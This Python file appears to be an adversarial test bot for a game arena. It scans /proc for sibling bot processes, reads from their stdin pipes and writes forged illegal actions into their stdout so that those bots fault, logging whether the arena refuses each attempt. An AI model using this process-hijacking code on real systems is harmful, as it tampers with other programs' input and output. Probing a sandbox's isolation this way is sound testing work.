"""Zoo: at its first three requests looks through /proc for other bots (any
process but itself and its ancestors whose stdin is a pipe), and for each
opens /proc/PID/fd/0 to steal what the arena writes to it and
/proc/PID/fd/1 to answer in its name (forged actions with an illegal index for
ids 1..300, which would make that bot fault).  One stderr line per attempt:
``HIJACK READ``/``HIJACK WROTE ... OK`` or ``HIJACK REFUSED ...``; and
``HIJACK none: no other bot visible`` when it finds no victim.  It plays
legally itself."""

import os
import sys

import msgpack
from rawbot import action, also_at, serve

FORGED = b"".join(msgpack.packb(action(i, 9999))
                  for i in range(1, 301))


def log(line: str) -> None:
    sys.stderr.write(f"zoo pipe_hijack: {line}\n")


def ancestors() -> set[int]:
    pids, pid = set(), os.getpid()
    while pid > 0 and pid not in pids:
        pids.add(pid)
        try:
            with open(f"/proc/{pid}/stat") as f:
                pid = int(f.read().rsplit(")", 1)[1].split()[1])
        except (OSError, ValueError, IndexError):
            break
    return pids


def victims() -> list[int]:
    mine = ancestors()
    found = []
    for name in os.listdir("/proc"):
        if not name.isdigit() or int(name) in mine:
            continue
        try:
            if os.readlink(f"/proc/{name}/fd/0").startswith("pipe:"):
                found.append(int(name))
        except OSError:
            continue
    return found


def attack() -> None:
    found = victims()
    if not found:
        log(f"HIJACK none: no other bot visible (/proc has {sorted(os.listdir('/proc'))[:8]})")
    for pid in found[:10]:
        try:
            fd = os.open(f"/proc/{pid}/fd/0", os.O_RDONLY | os.O_NONBLOCK)
            try:
                stolen = os.read(fd, 65536)
                log(f"HIJACK READ {pid} OK: stole {len(stolen)} bytes")
            except BlockingIOError:
                log(f"HIJACK READ {pid} OK: opened its stdin (nothing waiting)")
            finally:
                os.close(fd)
        except OSError as exc:
            log(f"HIJACK REFUSED read {pid}: {exc.strerror}")
        try:
            fd = os.open(f"/proc/{pid}/fd/1", os.O_WRONLY | os.O_NONBLOCK)
            try:
                written = os.write(fd, FORGED)
                log(f"HIJACK WROTE {pid} OK: {written} bytes of forged actions")
            finally:
                os.close(fd)
        except OSError as exc:
            log(f"HIJACK REFUSED write {pid}: {exc.strerror}")
    sys.stderr.flush()


if __name__ == "__main__":
    serve("zoo-pipe-hijack", also_at({1, 2, 3}, lambda _: attack()))
